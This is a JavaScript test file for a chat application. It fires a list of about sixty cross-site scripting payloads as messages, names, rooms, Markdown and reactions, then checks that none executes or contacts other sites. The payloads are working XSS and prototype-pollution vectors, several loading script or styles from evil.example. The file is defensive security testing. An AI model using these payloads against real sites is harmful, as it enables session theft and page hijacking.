// Text from other users stays text. The tests try sixty attacks, as message, name, room and
// error.

import assert from 'node:assert/strict';
import {test} from 'node:test';
import {go, join, person, serve, shows, texts, until} from './harness.js';

const js = 'window.pwned=1';
const payloads = [
  `<script>${js}</script>`, `<ScRiPt>${js}</sCrIpT>`, '<script src=//evil.example/x.js></script>', `<script type=module>${js}</script>`,
  `<img src=x onerror=${js}>`, `<img src=x onerror="${js}">`, `<IMG SRC=x ONERROR=${js}>`, `<img/src/onerror=${js}>`, '<img src=//evil.example/p.gif>',
  `<svg onload=${js}>`, `<svg><script>${js}</script></svg>`, `<svg><animate onbegin=${js} attributeName=x>`, '<svg><use href="//evil.example/x.svg#a"/></svg>',
  `<body onload=${js}>`, `<iframe srcdoc="<script>parent.${js}</script>">`, `<iframe src=javascript:parent.${js}>`, '<iframe src=//evil.example>',
  `<object data=javascript:${js}>`, '<embed src=//evil.example>', `<video><source onerror=${js}>`, `<audio src=x onerror=${js}>`,
  `<details open ontoggle=${js}>`, `<input autofocus onfocus=${js}>`, `<select autofocus onfocus=${js}>`, `<textarea autofocus onfocus=${js}>`,
  `<marquee onstart=${js}>`, `<a href=javascript:${js}>x</a>`, `<a href="java\tscript:${js}">x</a>`, `<form action=javascript:${js}><button>x`,
  `<math href=javascript:${js}>x</math>`, `<base href=//evil.example/>`, '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(//evil.example/b)}</style>', '<meta http-equiv=refresh content="0;url=//evil.example">', `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `<!--><img src=x onerror=${js}>-->`, `<![CDATA[><img src=x onerror=${js}>]]>`, `<p style="background:url(//evil.example)">x`,
  `"><img src=x onerror=${js}>`, `'><img src=x onerror=${js}>`, `</textarea><img src=x onerror=${js}>`, `</title><script>${js}</script>`,
  `" onmouseover="${js}`, `' onfocus='${js}' autofocus='`, '${alert(1)}', '{{constructor.constructor("alert(1)")()}}',
  `javascript:${js}`, `http://x" onclick="${js}`, `https://x.example/'onmouseover='${js}`, 'http://javascript:alert(1)@evil.example/', `data:text/html,<script>${js}</script>`, `vbscript:${js}`,
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '\\u003cscript\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E',
  '__proto__', 'constructor', 'toString', '\u202Egnp.exe\u202C', '<x contenteditable onblur=alert(1)>', 'a\u0000<b>b</b>',
];

/** Joins with each of names in each of rooms from inside a page, sends texts, and stays. */
const attack = (page, list, rooms) => page.evaluate(async ([list, rooms]) => {
  const refused = [];
  window.kept = [];
  for (const [name, text, room] of list.flatMap(([name, text]) => rooms.map((room) => [name, text, room ?? name]))) {
    const ws = new WebSocket(`ws://${location.host}/ws/${encodeURIComponent(room)}?username=${encodeURIComponent(name)}`, 'chat.v1');
    const ok = await new Promise((resolve) => {
      ws.onmessage = () => resolve(true);
      ws.onerror = () => resolve(false);
    });
    if (!ok) refused.push(name);
    else {
      kept.push(ws);
      ws.send('{"type":"typing"}');
      if (text) {
        const answered = new Promise((r) => { ws.onmessage = (e) => /^(ack|error)$/.test(JSON.parse(e.data).type) && r(); });
        ws.send(JSON.stringify({type: 'message', message: text, id: 'x'}));
        await answered;
      }
    }
  }
  return refused;
}, [list, rooms]);

const kinds = (page) => page.evaluate(() => [...new Set([...document.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))].sort());

async function victim(context, url) {
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  context.on('page', (p) => requests.push(`a new page: ${p.url()}`));
  await context.addInitScript(() => {
    window.violations = [];
    addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await join(context, url, 'Victim', 'general');
  requests.length = 0;
  page.unharmed = async () => {
    assert.deepEqual(page.complaints, [], 'no dialogs and no errors');
    assert.deepEqual(requests.filter((r) => !r.startsWith(url) && !r.startsWith(url.replace('http', 'ws'))), [], 'no requests to other sites');
    assert.deepEqual(await page.evaluate(() => [window.pwned, window.violations, Object.keys(Object.prototype)]), [undefined, [], []]);
    const attributes = await page.evaluate(() => [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => `${a.name}=${a.value}`)));
    assert.deepEqual(attributes.filter((a) => /^on|^(href|src|action|srcdoc|formaction)=\s*(?!https?:|#|[\w.]+$|$)/i.test(a)), []);
  };
  return page;
}

test('sixty payloads as messages', async () => {
  assert.ok(payloads.length >= 60);
  const {url} = await serve(['-rate', '0']);
  const page = await victim(await person(), url), other = await (await person()).newPage();
  await other.goto(url);
  await attack(other, [['Someone', 'a message with a link: https://example.com/']], ['general']);
  await shows(page, 'a message with a link');
  const before = await kinds(page);
  await attack(other, payloads.map((text) => ['Mallory', text]), ['general']);
  await until('all have come', async () => (await texts(page)).length === payloads.length + 1);
  assert.deepEqual((await texts(page)).slice(1), payloads, 'each is shown as it was written');
  assert.deepEqual(await kinds(page), before, 'no new kinds of elements');
  await page.unharmed();
  // The addresses in them are links to exactly the shown address.
  const links = await page.$$eval('.text a', (all) => all.map((a) => [a.textContent, a.protocol, a.rel]));
  for (const [shown, protocol, rel] of links) {
    assert.match(shown, /^https?:\/\//);
    assert.match(protocol, /^https?:$/);
    assert.equal(rel, 'noopener noreferrer nofollow');
  }
});

test('payloads as names, rooms and errors', async () => {
  const {url} = await serve(['-rate', '0']);
  const page = await victim(await person(), url), other = await (await person()).newPage();
  await other.goto(url);
  await attack(other, [['Someone', 'hello']], ['general']);
  await shows(page, 'hello');
  const before = await kinds(page);
  const refused = await attack(other, payloads.map((name) => [name, `I am ${name}`]), ['general']);
  const accepted = payloads.filter((p) => !refused.includes(p));
  assert.ok(accepted.length >= 30, `${accepted.length} were names`);
  await shows(page, `I am ${accepted.at(-1)}`);
  const shown = await page.$$eval('.name bdi', (all) => all.map((e) => e.textContent));
  for (const name of accepted) assert.ok(shown.includes(name.normalize('NFKC').trim()), `${name} among the names`);
  // In a private message, the name is in the composer and above the message.
  await page.locator('#members button', {hasText: '<svg onload'}).first().click();
  assert.match(await page.textContent('#to'), /^<svg onload/);
  await page.fill('#text', 'psst');
  await page.press('#text', 'Enter');
  await page.locator('#log .only', {hasText: 'Only to <svg onload'}).waitFor();
  await page.unharmed();
  // As rooms: in the list, as a title, and in the errors for invalid names.
  await attack(other, payloads.map((name) => [name, '']), [null]);
  await page.reload();
  await page.locator('#rooms bdi', {hasText: '<svg onload'}).first().waitFor();
  for (const room of ['<svg onload=window.pwned=1>', '__proto__', '"><b>x', '<script>window.pwned=1<', 'javascript:alert(1)']) {
    await go(page, room);
    assert.equal(await page.title(), `${room} · chat`);
  }
  assert.deepEqual((await kinds(page)).filter((k) => !before.includes(k) && k !== 'a'), []);
  await page.evaluate(() => (location.hash = encodeURIComponent('</p><img src=x onerror=window.pwned=1>')));
  await page.locator('#closed:not(:empty)').waitFor();
  await page.unharmed();
});

const elements = ['a', 'bdi', 'blockquote', 'button', 'code', 'del', 'div', 'em', 'li', 'ol', 'p', 'path', 'pre', 'rect', 'span', 'strong', 'svg', 'time', 'ul'];
const attributes = /^(?:class|dir|style|tabindex|type|title|href|target|rel|datetime|role|value|viewBox|d|x|y|width|height|rx|data-(?:user|offset|reaction|time)|aria-(?:label|live|hidden|pressed|expanded|busy))$/;

test('payloads in Markdown, with data, as replies, edits and reactions', async () => {
  const {url} = await serve(['-rate', '0']);
  const page = await victim(await person(), url), other = await (await person()).newPage();
  await other.goto(url);
  const marked = (p) => [`[x](${p})`, `[${p}](https://ok.example/)`, `![x](${p})`, `[x]: ${p}`, `**${p}** _${p}_ ~~${p}~~`, `<${p}>`, `> ${p}`, `- ${p}`, `1. [${p}](${p})`, `\`${p}\``, `\`\`\`${p}`, p, '```'].join('\n');
  // Raw, because JSON.stringify writes no key __proto__ of an object literal.
  const refused = await other.evaluate(async ([payloads, texts]) => {
    const ws = new WebSocket(`ws://${location.host}/ws/general?username=Mallory`, 'chat.v1'), codes = [];
    const wait = (id) => new Promise((resolve) => ws.addEventListener('message', function on({data}) {
      const o = JSON.parse(data);
      if (o.id !== id || (o.type !== 'ack' && o.type !== 'error')) return;
      ws.removeEventListener('message', on);
      resolve(o);
    }));
    const ask = (o, id) => {
      const answer = wait(id);
      ws.send(o);
      return answer;
    };
    await new Promise((resolve) => (ws.onopen = resolve));
    await ask('{"type":"message","message":"the first","id":"first"}', 'first'); // which the others answer
    for (const [i, p] of payloads.entries()) {
      const q = JSON.stringify(p);
      const {offset} = await ask(`{"type":"message","message":${JSON.stringify(i % 2 ? 'first' : texts[i])},"data":{"__proto__":{"pwned":${q}},"constructor":{"prototype":{"pwned":1}},"html":${q}},"reply_to":1,"id":"m${i}"}`, `m${i}`);
      if (!offset) throw new Error(`not stored: ${p}`);
      if (i % 2) await ask(`{"type":"edit","target":${offset},"message":${JSON.stringify(texts[i])},"id":"e${i}"}`, `e${i}`);
      codes.push((await ask(`{"type":"reaction","target":${offset},"reaction":${q},"id":"r${i}"}`, `r${i}`)).code);
    }
    await ask('{"type":"message","message":"the end","id":"end"}', 'end');
    ws.close();
    return codes;
  }, [payloads, payloads.map(marked)]);
  assert.ok(refused.every((code) => code === 'bad_request'), 'none of them is a reaction');
  await shows(page, 'the end');
  await page.keyboard.press('Tab');
  await page.unharmed();
  const seen = await page.evaluate(() => {
    const all = [...document.querySelectorAll('#log *')];
    return {
      names: [...new Set(all.map((e) => e.tagName.toLowerCase()))], attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))],
      links: all.filter((e) => e.tagName === 'A').map((e) => [e.protocol, e.rel, e.target].join(' ')), styles: all.map((e) => e.getAttribute('style')).filter((s) => s),
    };
  });
  assert.deepEqual(seen.names.filter((name) => !elements.includes(name)), []);
  assert.deepEqual(seen.attributes.filter((name) => !attributes.test(name)), []);
  assert.ok(seen.links.length > 0 && seen.links.every((s) => /^https?: noopener noreferrer nofollow _blank$/.test(s)), String(new Set(seen.links)));
  assert.deepEqual(seen.styles.filter((s) => !/^--(?:hue|digits): [\d.]+;$/.test(s)), []);
});
